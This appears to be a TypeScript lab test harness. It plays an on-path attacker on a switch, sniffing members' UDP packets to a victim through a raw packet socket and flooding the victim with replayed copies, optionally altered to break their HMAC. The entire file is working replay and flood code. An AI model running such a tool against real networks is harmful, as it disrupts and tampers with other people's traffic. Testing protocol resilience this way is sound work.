/**
 * Floods a host with copies of what a member sends it, each made of the newest packet on the wire: `on-path-attacker-main.ts PLAN`, in the
 * lab's switch, with PLAN as JSON. What a mirrored port, a hub or a host on the way can do that sees packets and holds none back.
 *
 * Writes "sent NUMBER of NUMBER" at its end: frames, and packets that they were copies of.
 */
import { type Libc, loadLibc } from "../../src/adapters/native/libc.ts";

/** Whose packets are copied, on which wire. */
export interface OnPathPlan {
  /** Device of the switch. */
  readonly device: string;
  readonly members: readonly string[];
  readonly victim: string;
  readonly port: number;
  readonly forMs: number;
  /** Change the last byte, hence the HMAC. Otherwise copies are exact. */
  readonly isAltered: boolean;
}

const packetFamily = 17;
const raw = 3;
const allProtocols = 0x0003;
const doNotWait = 0x40;
const headerBytes = 14 + 20 + 8;
const burst = 32;

const plan = JSON.parse(process.argv[2] ?? "") as OnPathPlan;
const libc = loadLibc();
if (libc === null) throw new Error("Cannot attack: no koffi for this machine");
const fd = openWire(libc, plan.device);
const members = new Set(plan.members.map(numberOf));
const victim = numberOf(plan.victim);
const seen = Buffer.alloc(2_000);
/** The newest of each member. */
const copies = new Map<number, Buffer>();
let packets = 0;
let sent = 0;
const end = performance.now() + plan.forMs;
while (performance.now() < end) {
  look(libc);
  for (let turn = 0; turn < burst; turn += 1) {
    for (const copy of copies.values()) {
      if (libc.sendto(fd, copy, copy.length, doNotWait, null, 0) > 0) sent += 1;
    }
  }
}
process.stdout.write(`sent ${sent} of ${packets}\n`);

/** Takes what is on the wire. */
function look(libc: Libc): void {
  for (;;) {
    const length = libc.recv(fd, seen, seen.length, doNotWait);
    if (length < headerBytes) return;
    const isOurs = seen.readUInt16BE(12) === 0x0800 && seen[23] === 17 && seen.readUInt16BE(36) === plan.port;
    const source = seen.readUInt32BE(26);
    if (!isOurs || !members.has(source) || seen.readUInt32BE(30) !== victim) continue;
    const copy = Buffer.from(seen.subarray(0, length));
    copy.writeUInt16BE(0, 40); // No checksum.
    if (plan.isAltered) copy[length - 1] = (copy[length - 1] ?? 0) ^ 1;
    copies.set(source, copy);
    packets += 1;
  }
}

function openWire(libc: Libc, device: string): number {
  const fd = libc.socket(packetFamily, raw, 0);
  const place = Buffer.alloc(20);
  place.writeUInt16LE(packetFamily, 0);
  place.writeUInt16BE(allProtocols, 2);
  place.writeUInt32LE(libc.ifNametoindex(device), 4);
  if (libc.bind(fd, place, place.length) !== 0) throw new Error(`Cannot use ${device}: errno ${libc.errno()}`);
  return fd;
}

function numberOf(address: string): number {
  return address.split(".").reduce((sum, part) => sum * 256 + Number(part), 0);
}
